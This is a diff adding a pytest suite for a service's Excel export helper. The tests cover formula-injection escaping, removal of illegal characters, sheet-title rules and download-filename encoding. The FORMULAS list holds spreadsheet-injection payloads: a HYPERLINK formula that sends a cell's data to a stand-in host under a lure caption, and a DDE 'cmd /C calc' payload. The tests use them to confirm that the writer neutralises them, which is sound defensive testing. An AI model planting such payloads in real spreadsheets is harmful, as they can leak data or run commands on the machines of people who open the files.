@@ -1,0 +1,108 @@
+"""The one Excel writer: text stays text, illegal characters never reach the file, names are legal."""
+
+import io
+import zipfile
+from urllib.parse import unquote
+
+import openpyxl
+import pytest
+from flask import Flask
+from werkzeug.http import parse_options_header
+
+from service.core import excel
+
+FORMULAS = [
+    '=HYPERLINK("http://x.invalid/?d="&F2,"点击领取补贴")',
+    "+86 138 0000 0000",
+    "-减少成本20%",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def _read(data):
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_like_text_is_a_quote_prefixed_text_cell_that_reads_as_typed(text):
+    data = excel.workbook_bytes([("表", ["企业名称"], [[text]])])
+    cell = _read(data).active["A2"]
+    assert cell.data_type == "s"
+    assert cell.value == text.replace("\r", "\n")  # XML reads CR back as LF
+    assert cell.quotePrefix is True
+    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml  # no formula element anywhere
+
+
+def test_ordinary_text_has_no_quote_prefix_and_numbers_stay_numbers():
+    cell_text, cell_number = _read(excel.workbook_bytes([("表", ["a", "b"], [["钱多多", 3.5]])])).active[2]
+    assert (cell_text.value, cell_text.quotePrefix) == ("钱多多", False)
+    assert cell_number.value == 3.5 and cell_number.data_type == "n"
+
+
+def test_characters_xml_cannot_hold_are_dropped_instead_of_failing():
+    # Rows stored before input was checked: NUL, vertical tab, escape, lone surrogate.
+    stored = ["钱\u000b多多", "a\x00b", "\x1b[31m红", "x\ud800y", "keep\ttab\nand newline"]
+    data = excel.workbook_bytes([("花名册", ["姓名"], [[value] for value in stored])])
+    values = [row[0].value for row in _read(data).active.iter_rows(min_row=2)]
+    assert values == ["钱多多", "ab", "[31m红", "xy", "keep\ttab\nand newline"]
+
+
+def test_header_and_overlong_cells_are_cleaned_too():
+    data = excel.workbook_bytes([("表", ["=列\x07"], [["字" * 40_000]])])
+    sheet = _read(data).active
+    assert sheet["A1"].value == "=列" and sheet["A1"].data_type == "s"
+    assert len(sheet["A2"].value) == excel.MAX_CELL_CHARS
+
+
+@pytest.mark.parametrize("title, expected", [
+    ("第一期/专精特新班: 花名册?", "第一期_专精特新班_ 花名册_"),
+    ("[考勤]*表\\", "_考勤__表_"),
+    ("很长的班级名称" * 10, ("很长的班级名称" * 10)[:31]),
+    ("", "Sheet"),
+    ("'引号'", "引号"),
+    ("History", "History_"),
+])
+def test_sheet_titles_are_legal(title, expected):
+    assert excel.sheet_title(title) == expected
+    assert _read(excel.workbook_bytes([(title, ["a"], [])])).sheetnames == [expected]
+
+
+def test_sheet_titles_are_unique_after_cutting():
+    long = "课" * 40
+    names = _read(excel.workbook_bytes([(long, ["a"], []), (long, ["a"], []), ("sheet", [], []),
+                                        ("SHEET", [], [])])).sheetnames
+    assert names == ["课" * 31, "课" * 28 + "(2)", "sheet", "SHEET(2)"]
+
+
+def _disposition(filename):
+    app = Flask(__name__)
+    with app.test_request_context():
+        response = excel.xlsx_response(filename, [("表", ["a"], [])])
+        return response, response.headers["Content-Disposition"]
+
+
+@pytest.mark.parametrize("class_name, expected", [
+    ("第一期/二期 联合班-花名册.xlsx", "第一期-二期 联合班-花名册.xlsx"),
+    ('班"级"\\名:*?<>|\x00-考勤表.xlsx', "班-级--名-------考勤表.xlsx"),
+    ("report", "report.xlsx"),
+    ("", "export.xlsx"),
+])
+def test_download_name_is_rfc6266_encoded_with_ascii_fallback(class_name, expected):
+    response, header = _disposition(class_name)
+    assert response.mimetype == excel.XLSX_MIMETYPE
+    assert response.headers["Cache-Control"] == "no-store"
+    assert header.startswith("attachment;")
+    # RFC 6266: a parser that knows filename* takes it; werkzeug's parser is one.
+    assert parse_options_header(header)[1]["filename"] == expected
+    if not expected.isascii():
+        assert "filename*=UTF-8''" in header
+        encoded = header.split("filename*=UTF-8''", 1)[1]
+        assert "/" not in encoded and unquote(encoded) == expected
+        fallback = header.split("filename=", 1)[1].split(";", 1)[0]
+        assert fallback.isascii()
+    else:
+        assert header == f"attachment; filename={expected}"
